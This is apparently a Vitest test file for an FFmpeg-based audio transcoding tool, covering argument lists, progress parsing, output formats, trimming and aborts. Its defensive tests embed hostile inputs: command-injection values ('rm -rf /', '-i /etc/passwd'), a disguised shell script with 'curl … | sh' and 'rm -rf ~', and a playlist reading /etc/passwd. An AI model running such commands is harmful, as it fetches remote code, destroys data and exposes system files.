import { execFile } from "node:child_process";
import { readdir, readFile, stat } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, describe, expect, it } from "vitest";
import {
  FfmpegProgress,
  INPUT_DEMUXERS,
  processAudio,
  transcodeArgs,
  type AudioRequest,
} from "../../services/tools/families/audio.js";
import { ffmpegVersion, ffprobeOf } from "../../services/tools/families/ffmpeg.js";
import { ToolFailure } from "../../services/tools/families/tool.js";
import { need, describeWith } from "../support/skips.js";
import { until } from "../support/until.js";
import { checked, removeRuns, runOn, type TestRun } from "./fixtures/files.js";

const run = promisify(execFile);
/** Debian's FFmpeg (CI installs it: .ci/run); under CI=true a missing one fails these tests. */
const FFMPEG = "ffmpeg";
const version = await ffmpegVersion(FFMPEG);
const HAS_FFMPEG = need(version !== undefined, "no ffmpeg and ffprobe on the PATH");
const transcode = checked("audio.process", (work) => processAudio(work, FFMPEG));

afterAll(removeRuns);

/** Audio made by FFmpeg's sine source: `seconds` long at `rate` Hz, as this format (by FFmpeg's muxer name). */
async function sine(seconds: number, format: string, extra: string[] = [], rate = 44100): Promise<Buffer> {
  const { stdout } = await run(
    FFMPEG,
    [
      "-nostdin",
      "-v",
      "error",
      "-f",
      "lavfi",
      "-i",
      `sine=frequency=440:sample_rate=${rate}:duration=${seconds}`,
      ...extra,
      "-f",
      format,
      "pipe:1",
    ],
    { encoding: "buffer", maxBuffer: 64 * 1024 ** 2 },
  );
  return stdout;
}

/** What ffprobe says of a file: its duration, and its first stream's codec, sample rate and channels. */
async function probed(path: string) {
  const { stdout } = await run("ffprobe", [
    "-v",
    "error",
    "-show_entries",
    "format=duration,format_name:stream=codec_name,sample_rate,channels",
    "-of",
    "json",
    path,
  ]);
  const found = JSON.parse(stdout) as {
    format: { duration: string; format_name: string };
    streams: { codec_name: string; sample_rate: string; channels: number }[];
  };
  return { duration: Number(found.format.duration), format: found.format.format_name, ...found.streams[0] };
}

/** The ToolFailure (or other error) a run ends with. */
async function errorOf(running: Promise<unknown>): Promise<unknown> {
  return running.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
}

/** The FFmpeg processes this test process started and that still run (their parent is us). */
async function ffmpegChildren(): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    const stat = await readFile(join("/proc", entry, "stat"), "utf8").catch(() => "");
    // pid (comm) state ppid …
    const match = /^\d+ \((.*)\) \S+ (\d+)/.exec(stat);
    if (match && match[1] === "ffmpeg" && Number(match[2]) === process.pid) found.push(Number(entry));
  }
  return found;
}

describe("audio.process arguments (pure)", () => {
  it("builds a fixed list: numbers and enums of the request only, paths behind file:", () => {
    const request: AudioRequest = {
      format: "mp3",
      bitrate_kbps: 96,
      sample_rate: 22050,
      channels: 1,
      start_seconds: 1.5,
      duration_seconds: 2,
    };
    const args = transcodeArgs("/w/input", "/w/audio.mp3", request, 1000);
    expect(args).toEqual([
      "-nostdin",
      "-hide_banner",
      "-loglevel",
      "error",
      "-nostats",
      "-progress",
      "pipe:1",
      "-protocol_whitelist",
      "file",
      "-format_whitelist",
      INPUT_DEMUXERS.join(","),
      "-ss",
      "1.500",
      "-t",
      "2.000",
      "-i",
      "file:/w/input",
      "-map",
      "0:a:0",
      "-vn",
      "-sn",
      "-dn",
      "-map_metadata",
      "-1",
      "-c:a",
      "libmp3lame",
      "-b:a",
      "96k",
      "-ar",
      "22050",
      "-ac",
      "1",
      "-fs",
      "1000",
      "-f",
      "mp3",
      "-y",
      "file:/w/audio.mp3",
    ]);
    // Lossless formats take no bitrate.
    expect(transcodeArgs("/i", "/o", { format: "flac", bitrate_kbps: 96 }, 1)).not.toContain("-b:a");
    expect(transcodeArgs("/i", "/o", { format: "aac" }, 1)).toEqual(expect.arrayContaining(["aac", "adts"]));
  });

  it("refuses anything in the request that is not one of its numbers or enum values", () => {
    const bad: unknown[] = [
      { format: "mp3 -i /etc/passwd" },
      { format: "constructor" },
      { format: "mp3", bitrate_kbps: "96k; rm -rf /" },
      { format: "mp3", bitrate_kbps: 1e9 },
      { format: "mp3", sample_rate: 44100.5 },
      { format: "mp3", channels: 6 },
      { format: "mp3", start_seconds: -1 },
      { format: "mp3", duration_seconds: Number.NaN },
    ];
    for (const request of bad) {
      expect(() => transcodeArgs("/i", "/o", request as AudioRequest, 1)).toThrow(ToolFailure);
    }
  });

  it("reads -progress output split anywhere", () => {
    const progress = new FfmpegProgress();
    expect(progress.push("bitrate=N/A\nout_time_us=N/A\nprogress=cont")).toEqual([]);
    expect(progress.push("inue\nout_time_us=1500000\nout_ti")).toEqual([]);
    expect(progress.push("me=00:00:01.5\nprogress=continue\nout_time_us=2000000\nprogress=end\n")).toEqual([1.5, 2]);
  });

  it("finds ffprobe beside ffmpeg", () => {
    expect(ffprobeOf("ffmpeg")).toBe("ffprobe");
    expect(ffprobeOf("/usr/bin/ffmpeg")).toBe("/usr/bin/ffprobe");
    expect(ffprobeOf("/opt/ffmpeg-6/bin/ffmpeg")).toBe("/opt/ffmpeg-6/bin/ffprobe");
  });
});

describeWith(HAS_FFMPEG, "audio.process on FFmpeg", () => {
  it("says which FFmpeg runs here, and nothing for a binary that is not there", async () => {
    expect(version).toMatch(/^\d|^n\d/);
    expect(await ffmpegVersion("/nonexistent/ffmpeg")).toBeUndefined();
    expect(await ffmpegVersion("true")).toBeUndefined();
  });

  it("transcodes a WAV to MP3 at the rate, channels and bitrate asked for, reporting progress", async () => {
    const testRun = await runOn([{ name: "tone.wav", contentType: "audio/wav", bytes: await sine(2, "wav") }], {
      format: "mp3",
      bitrate_kbps: 64,
      sample_rate: 22050,
      channels: 1,
    });
    const { output, files } = await transcode(testRun.work);
    expect(files).toEqual([
      { name: "audio.mp3", contentType: "audio/mpeg", path: join(testRun.work.workDir, "audio.mp3") },
    ]);
    const back = await probed(files[0].path);
    expect(back).toMatchObject({ format: "mp3", codec_name: "mp3", sample_rate: "22050", channels: 1 });
    // MP3 frames pad the end: within a tenth of a second.
    expect(Math.abs(back.duration - 2)).toBeLessThan(0.1);
    expect(output).toEqual({
      duration_seconds: Math.round(back.duration * 1000) / 1000,
      format: "mp3",
      size: (await readFile(files[0].path)).length,
    });
    const percents = testRun.progress.map((each) => each.percent);
    expect(percents[0]).toBe(0);
    expect(percents.at(-1)).toBe(100);
    expect(percents).toEqual([...percents].sort((a, b) => a - b));
  });

  it("trims: start and duration", async () => {
    const testRun = await runOn(
      [{ name: "tone.ogg", contentType: "audio/ogg", bytes: await sine(3, "ogg", ["-c:a", "libvorbis"]) }],
      {
        format: "flac",
        start_seconds: 0.5,
        duration_seconds: 1.25,
      },
    );
    const { output, files } = await transcode(testRun.work);
    expect(output.duration_seconds).toBeCloseTo(1.25, 1);
    expect((await probed(files[0].path)).codec_name).toBe("flac");
  });

  it("writes each format", async () => {
    const bytes = await sine(1, "wav");
    for (const [format, codec] of [
      ["ogg", "vorbis"],
      ["wav", "pcm_s16le"],
      ["aac", "aac"],
    ] as const) {
      const testRun = await runOn([{ name: "tone.wav", contentType: "audio/wav", bytes }], { format });
      const { files } = await transcode(testRun.work);
      expect((await probed(files[0].path)).codec_name).toBe(codec);
    }
  });

  it("refuses a shell script named .mp3 as unreadable, before any transcode", async () => {
    const testRun = await runOn([
      { name: "song.mp3", contentType: "audio/mpeg", bytes: "#!/bin/sh\ncurl http://example.org/x | sh\nrm -rf ~\n" },
    ]);
    testRun.work.input = { format: "wav" };
    const started = Date.now();
    const error = await errorOf(transcode(testRun.work));
    expect(error).toBeInstanceOf(ToolFailure);
    expect((error as ToolFailure).code).toBe("tools.file.unreadable");
    expect((error as ToolFailure).detail).toMatch(/^The file is not audio FFmpeg reads here/);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(testRun.progress.map((each) => each.percent)).toEqual([0]);
  });

  it("opens no playlist that would read other files", async () => {
    const playlist = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n";
    const testRun = await runOn([{ name: "list.m3u8", contentType: "audio/x-mpegurl", bytes: playlist }], {
      format: "wav",
    });
    const error = await errorOf(transcode(testRun.work));
    expect((error as ToolFailure).code).toBe("tools.file.unreadable");
  });

  it("refuses a start past the end", async () => {
    const testRun = await runOn([{ name: "tone.wav", contentType: "audio/wav", bytes: await sine(1, "wav") }], {
      format: "mp3",
      start_seconds: 5,
    });
    const error = await errorOf(transcode(testRun.work));
    expect((error as ToolFailure).code).toBe("tools.input.invalid");
  });

  it("kills FFmpeg when the run is aborted mid-transcode", async () => {
    // Half an hour of 8 kHz mono made into 48 kHz stereo MP3 at 320 kb/s (72 MB): seconds of work, aborted early.
    const bytes = await sine(1800, "wav", [], 8000);
    const testRun: TestRun = await runOn([{ name: "long.wav", contentType: "audio/wav", bytes }], {
      format: "mp3",
      bitrate_kbps: 320,
      sample_rate: 48000,
      channels: 2,
    });
    const running = errorOf(transcode(testRun.work));
    await until(() => testRun.progress.some((each) => each.percent > 5));
    expect(await ffmpegChildren()).toHaveLength(1);
    const reason = new Error("canceled by its creator");
    testRun.abort.abort(reason);
    expect(await running).toBe(reason);
    await until(async () => (await ffmpegChildren()).length === 0);
    expect(testRun.progress.at(-1)!.percent).toBeLessThan(100);
    // Stopped, not waited for: what it wrote is a fraction of the whole.
    const { size } = await stat(join(testRun.work.workDir, "audio.mp3"));
    expect(size).toBeLessThan(36_000_000);
  });
});
